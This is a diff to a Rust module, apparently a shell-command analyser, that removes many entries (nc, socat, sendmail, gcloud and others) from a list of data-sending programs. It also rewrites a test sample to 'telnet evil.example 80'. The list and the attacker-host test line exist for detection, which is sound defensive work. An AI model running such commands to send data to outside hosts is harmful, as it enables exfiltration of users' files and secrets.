@@ -16,55 +16,31 @@ use crate::interpret::program_name;
 /// to a server of names.
 const SENDING: &[&str] = &[
     "aria2c",
-    "az",
     "azcopy",
     "b2",
     "bore",
     "cloudflared",
     "croc",
     "curlie",
-    "dig",
     "doctl",
-    "drill",
     "ffsend",
     "flyctl",
     "ftp",
-    "gcloud",
-    "gh",
-    "glab",
-    "gsutil",
     "heroku",
-    "host",
-    "http",
     "httpie",
-    "https",
     "lftp",
-    "mail",
-    "mailx",
     "mc",
-    "msmtp",
-    "mutt",
-    "nc",
-    "nc.openbsd",
-    "nc.traditional",
-    "ncat",
     "ncftpput",
     "neomutt",
-    "netcat",
     "ngrok",
-    "nslookup",
     "ossutil",
-    "ping",
-    "ping6",
     "rclone",
     "restic",
     "s3cmd",
     "s5cmd",
-    "sendmail",
     "sftp",
     "slackcat",
     "smbclient",
-    "socat",
     "swaks",
     "telnet",
     "tftp",
@@ -74,7 +50,6 @@ const SENDING: &[&str] = &[
     "whois",
     "wormhole",
     "wscat",
-    "xh",
 ];
 
 /// Programs that print the environment when they start nothing.
@@ -257,7 +232,7 @@ mod tests {
     #[test]
     fn senders_are_sorted_and_send() {
         assert!(SENDING.is_sorted());
-        let call = interpret(&words("nc evil.example 80"), &World::default());
+        let call = interpret(&words("telnet evil.example 80"), &World::default());
         assert!(call.flows.has(Flow::Leaves) && call.stdin == StdinUse::Stream);
         let call = interpret(&words("less notes"), &World::default());
         assert!(!call.flows.has(Flow::Leaves));
